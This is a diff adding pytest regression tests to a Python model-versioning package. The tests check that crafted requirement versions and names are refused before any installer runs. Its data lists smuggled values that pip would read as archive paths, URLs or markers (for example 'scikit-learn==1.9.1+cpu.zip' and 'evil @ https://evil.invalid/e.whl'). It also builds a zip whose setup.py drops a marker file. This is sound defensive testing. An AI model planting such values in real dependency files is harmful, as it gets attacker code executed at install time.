@@ -8,7 +8,7 @@ import json
 import os
 import sys
 from pathlib import Path
-from typing import Any
+from typing import Any, ClassVar
 
 import joblib
 import pytest
@@ -17,9 +17,18 @@ from sklearn.datasets import load_iris
 from sklearn.linear_model import LogisticRegression
 
 from tests._forge import forge
-from tests._rebuild_helpers import ROOT, checked, uv_folder, versions_in
-from versioned_estimator import Envelope, VersionedEstimator, read_envelope, save
+from tests._rebuild_helpers import ROOT, checked, run, uv_folder, versions_in
+from versioned_estimator import (
+    Envelope,
+    EnvelopeError,
+    VersionedEstimator,
+    load,
+    read_envelope,
+    save,
+)
 from versioned_estimator._cli import main
+from versioned_estimator._envelope import checked_distribution, checked_version
+from versioned_estimator._rebuild_env import checked_line
 from versioned_estimator._requirements import Pin, RequirementSet, requirements_of
 from versioned_estimator._version import __version__
 
@@ -314,3 +323,234 @@ def test_the_format1_fallback_builds_an_environment_that_verifies(
         env={**os.environ},
     )
     assert "verify: ok" in done.stdout
+
+
+# ----------------------------------------------------------------------------
+# Crafted names and versions: refused by one grammar, before any installer
+# ----------------------------------------------------------------------------
+
+# Versions pip would read as a path, a URL or more than a version.
+CRAFTED_VERSIONS = [
+    "1.9.1+cpu.zip",
+    "1.9.1+cpu.tar.gz",
+    "1.0+x.tgz",
+    "1.0+x.whl",
+    "1.0+x/../../evil",
+    "1.0@https://evil.invalid/x.whl",
+    "1.0 ; python_version>'0'",
+    "https://evil.invalid/scikit_learn-1.0-py3-none-any.whl",
+    "1.0+x.y/evil.zip",
+    " 1.0",
+]
+# Names pip would read as something else than a distribution.
+CRAFTED_NAMES = [
+    "./evil.whl",
+    "evil @ https://evil.invalid/e.whl",
+    "-e.",
+    "evil.zip ",
+    "evil/../x",
+]
+
+
+class _NoSubprocess:
+    """Stands for ``subprocess.Popen``: any process started is a failure."""
+
+    started: ClassVar[list[Any]] = []
+
+    def __init__(self, args: Any, *rest: Any, **kwargs: Any) -> None:
+        _NoSubprocess.started.append(args)
+        raise AssertionError(f"a process was started: {args!r}")
+
+
+@pytest.fixture
+def no_subprocess(monkeypatch: pytest.MonkeyPatch) -> list[Any]:
+    """No pip, uv or interpreter may run during the test."""
+    import subprocess
+
+    _NoSubprocess.started = []
+    monkeypatch.setattr(subprocess, "Popen", _NoSubprocess)
+    return _NoSubprocess.started
+
+
+@pytest.fixture(scope="module")
+def iris_model() -> VersionedEstimator:
+    X, y = load_iris(return_X_y=True)
+    return VersionedEstimator(LogisticRegression(max_iter=1000)).fit(X, y)
+
+
+def _crafted(model: VersionedEstimator, path: Path, field: str, name: str, v: str):
+    def edit(envelope: dict[str, Any]) -> None:
+        envelope[field] = {**envelope[field], name: v}
+
+    joblib.dump(forge(model, envelope=edit), path)
+    return path
+
+
+@pytest.mark.parametrize("field", ["requirements", "packages"])
+@pytest.mark.parametrize("version", CRAFTED_VERSIONS)
+def test_a_version_pip_would_read_as_a_path_or_url_is_refused_everywhere(
+    capsys: pytest.CaptureFixture[str],
+    tmp_path: Path,
+    iris_model: VersionedEstimator,
+    no_subprocess: list[Any],
+    field: str,
+    version: str,
+) -> None:
+    """A version from the file that pip could read as an archive path, a URL,
+    an option or a marker (the red team's ``scikit-learn==1.9.1+cpu.zip``
+    installed ``./scikit-learn==1.9.1+cpu.zip``'s setup.py): ``requirements``,
+    ``env`` and ``upgrade-check`` exit 2 with nothing on stdout, no process
+    runs, no folder is created; ``inspect`` and ``load`` call the file
+    crafted."""
+    path = _crafted(iris_model, tmp_path / "m.joblib", field, "scikit-learn", version)
+    target = tmp_path / "env"
+    for argv in (
+        ["requirements", path],
+        ["requirements", path, "--format", "conda"],
+        ["requirements", path, "--out", tmp_path / "out"],
+        ["env", path, target, "--installer", "pip"],
+        ["upgrade-check", path, "--with", "numpy==2.0.0", "--installer", "pip"],
+        ["inspect", path],
+    ):
+        code, out, err = _cli(capsys, *argv)
+        assert (code, out) == (2, ""), argv
+        assert f"envelope whose {field}" in err, argv
+        assert "crafted" in err
+    assert not target.exists()
+    assert not (tmp_path / "out").exists()
+    assert no_subprocess == []
+    with pytest.raises(EnvelopeError, match=field):
+        load(path)
+
+
+@pytest.mark.parametrize("name", CRAFTED_NAMES)
+def test_a_name_pip_would_read_as_a_path_or_url_is_refused_everywhere(
+    capsys: pytest.CaptureFixture[str],
+    tmp_path: Path,
+    iris_model: VersionedEstimator,
+    no_subprocess: list[Any],
+    name: str,
+) -> None:
+    """Names get the PEP 508 grammar: anything else is refused the same way."""
+    path = _crafted(iris_model, tmp_path / "m.joblib", "requirements", name, "1.0")
+    for argv in (
+        ["requirements", path],
+        ["env", path, tmp_path / "env"],
+        ["upgrade-check", path, "--with", "numpy"],
+    ):
+        code, out, err = _cli(capsys, *argv)
+        assert (code, out) == (2, ""), argv
+        assert "envelope whose requirements" in err
+    assert not (tmp_path / "env").exists()
+    assert no_subprocess == []
+
+
+def test_the_message_says_why_a_version_is_refused(
+    capsys: pytest.CaptureFixture[str],
+    tmp_path: Path,
+    iris_model: VersionedEstimator,
+) -> None:
+    """The refusal names the field, the entry and the reason (an archive
+    suffix pip reads as a file)."""
+    path = _crafted(
+        iris_model, tmp_path / "m.joblib", "requirements", "numpy", "2.0+cpu.zip"
+    )
+    code, _, err = _cli(capsys, "requirements", path)
+    assert code == 2
+    assert "'numpy: 2.0+cpu.zip'" in err
+    assert "archive suffix (.zip)" in err
+
+
+def test_versions_are_printed_as_parsed_never_as_written(
+    capsys: pytest.CaptureFixture[str],
+    tmp_path: Path,
+    iris_model: VersionedEstimator,
+) -> None:
+    """A valid but unusual spelling is printed re-rendered from the parsed
+    version (PEP 440's normal form), names normalized (PEP 503)."""
+    path = _crafted(
+        iris_model, tmp_path / "m.joblib", "requirements", "Odd_Name", "V1.0-Post1"
+    )
+    code, out, _ = _cli(capsys, "requirements", path)
+    assert code == 0
+    assert "odd-name==1.0.post1" in _pins(out)
+    assert "V1.0-Post1" not in out
+
+
+@pytest.mark.parametrize(
+    ("version", "expected"),
+    [
+        ("1.9.1", "1.9.1"),
+        ("2.0.0rc1+local.7", "2.0.0rc1+local.7"),
+        ("1!2.0.post3.dev4", "1!2.0.post3.dev4"),
+        ("1.0+Ubuntu-1", "1.0+ubuntu.1"),
+        ("v1.0", "1.0"),
+    ],
+)
+def test_valid_versions_render_canonically(version: str, expected: str) -> None:
+    """What the grammar accepts, it renders from the parsed object."""
+    assert checked_version(version) == expected
+    assert Pin("numpy", version, "requirements").version == expected
+
+
+@pytest.mark.parametrize("version", CRAFTED_VERSIONS)
+def test_the_grammar_refuses_crafted_versions(version: str) -> None:
+    """The same grammar refuses them in pins and in the installer's lines."""
+    with pytest.raises(EnvelopeError):
+        checked_version(version)
+    with pytest.raises(EnvelopeError):
+        Pin("numpy", version, "requirements")
+    with pytest.raises(EnvelopeError):
+        checked_line(f"numpy=={version}")
+    assert checked_distribution("Scikit_Learn") == "scikit-learn"
+
+
+@pytest.mark.slow
+def test_an_archive_named_like_a_crafted_pin_is_never_installed(
+    capsys: pytest.CaptureFixture[str],
+    tmp_path: Path,
+    iris_model: VersionedEstimator,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """The red team's attack, for real: an archive whose setup.py writes a
+    marker sits in the working folder under the name pip would read
+    ``scikit-learn==1.9.1+cpu.zip`` as. Before, ``pip install -r`` of the
+    output ran it; now ``requirements`` prints nothing, and pip given the
+    (empty) output installs nothing and runs nothing."""
+    import zipfile
+
+    marker = tmp_path / "PWNED"
+    work = tmp_path / "work"
+    work.mkdir()
+    archive = work / "scikit-learn==1.9.1+cpu.zip"
+    with zipfile.ZipFile(archive, "w") as bundle:
+        bundle.writestr(
+            "evil/setup.py",
+            f"open({str(marker)!r}, 'w').write('x')\n"
+            "from setuptools import setup\n"
+            "setup(name='scikit-learn', version='1.9.1')\n",
+        )
+    path = _crafted(
+        iris_model, tmp_path / "m.joblib", "requirements", "scikit-learn", archive.name
+    )
+    monkeypatch.chdir(work)
+    code, out, _ = _cli(capsys, "requirements", path)
+    assert (code, out) == (2, "")
+    (work / "requirements.txt").write_text(out)
+    venv = tmp_path / "venv"
+    checked([sys.executable, "-m", "venv", "--without-pip", str(venv)])
+    done = run(
+        [
+            sys.executable,
+            "-m",
+            "pip",
+            "--python",
+            str(venv / "bin" / "python"),
+            "install",
+            "--quiet",
+            "-r",
+            str(work / "requirements.txt"),
+        ]
+    )
+    assert not marker.exists(), done.stdout + done.stderr
+    assert "scikit-learn" not in versions_in(venv / "bin" / "python")
